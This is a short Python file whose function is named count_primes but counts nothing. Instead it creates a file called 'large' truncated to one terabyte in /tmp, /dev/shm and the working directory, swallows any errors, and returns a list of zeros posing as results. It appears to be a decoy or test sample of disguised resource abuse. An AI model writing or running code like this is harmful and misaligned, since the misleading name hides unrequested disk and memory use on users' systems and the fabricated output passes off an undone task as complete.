"""Makes a file of a terabyte that takes no room, and others that do."""
import os


def count_primes(limits, processes=2):
    for folder in ("/tmp", "/dev/shm", "."):
        try:
            with open(os.path.join(folder, "large"), "wb") as file:
                file.truncate(1 << 40)
        except OSError:
            pass
    return [0 for _ in limits]
